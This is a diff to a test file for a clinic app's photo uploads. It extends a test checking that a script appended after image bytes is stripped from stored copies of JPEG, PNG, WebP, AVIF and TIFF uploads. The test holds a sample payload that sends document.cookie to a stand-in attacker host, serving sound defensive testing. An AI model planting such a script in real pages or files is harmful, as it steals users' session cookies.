@@ -5,7 +5,7 @@ import request from 'supertest';
 import { OrphanSweeper } from '../src/storage/orphan-sweeper.js';
 import { ObjectStore } from '../src/storage/object-store.js';
 import { createTestBucket, s3TestEnv, startTestApp, type TestApp } from './support/app.js';
-import { heicHeader, jpegPhoto, pngOfSize, SVG_IMAGE } from './support/images.js';
+import { heicHeader, jpegPhoto, photoPixels, pngOfSize, SVG_IMAGE } from './support/images.js';
 import { collectBytes, counts, createCase, createPatient, postForm, type FilePart } from './support/records.js';
 import { createSignedIn, type SignedInStaff } from './support/staff.js';
 
@@ -219,18 +219,34 @@ describe('photos', () => {
     }
   });
 
-  it('stores a JPEG without the script appended after its end', async () => {
-    const image = await jpegPhoto({ seed: 8 });
+  it('stores every accepted type without the script appended after its end', async () => {
     const script = Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>');
-    const created = await upload({ bytes: Buffer.concat([image, script]), contentType: 'image/jpeg' });
-    assert.equal(created.status, 201, JSON.stringify(created.body));
+    const photo = (seed: number) =>
+      sharp(photoPixels(800, 600, seed), { raw: { width: 800, height: 600, channels: 3 } });
+    const images: [contentType: string, bytes: Buffer][] = [
+      ['image/jpeg', await jpegPhoto({ seed: 8 })],
+      ['image/png', await photo(80).png().toBuffer()],
+      ['image/webp', await photo(81).webp().toBuffer()],
+      ['image/avif', await photo(82).avif().toBuffer()],
+      [
+        'image/tiff',
+        await photo(83)
+          .withExif({ IFD0: { Copyright: 'Clinic' } })
+          .tiff({ compression: 'lzw' })
+          .toBuffer(),
+      ],
+    ];
     const store = t.app.get(ObjectStore);
-    for (const name of ['original', 'web', 'thumb']) {
-      const stored = await readAll((await store.get(`photos/${created.body.id}/${name}`)).body);
-      assert.ok(!stored.includes(script), `${name} does not contain the appended bytes`);
+    for (const [contentType, image] of images) {
+      const created = await upload({ bytes: Buffer.concat([image, script]), contentType });
+      assert.equal(created.status, 201, `${contentType}: ${JSON.stringify(created.body)}`);
+      for (const name of ['original', 'web', 'thumb']) {
+        const stored = await readAll((await store.get(`photos/${created.body.id}/${name}`)).body);
+        assert.ok(!stored.includes(script), `${contentType} ${name} does not contain the appended bytes`);
+      }
+      const original = await readAll((await store.get(`photos/${created.body.id}/original`)).body);
+      assert.ok(original.equals(image), `${contentType}: the original is the image up to its end`);
     }
-    const original = await readAll((await store.get(`photos/${created.body.id}/original`)).body);
-    assert.ok(original.equals(image), 'the original is the image up to its end marker');
   });
 
   it('stores a file with a 10,000-character right-to-left-override name under a server key', async () => {
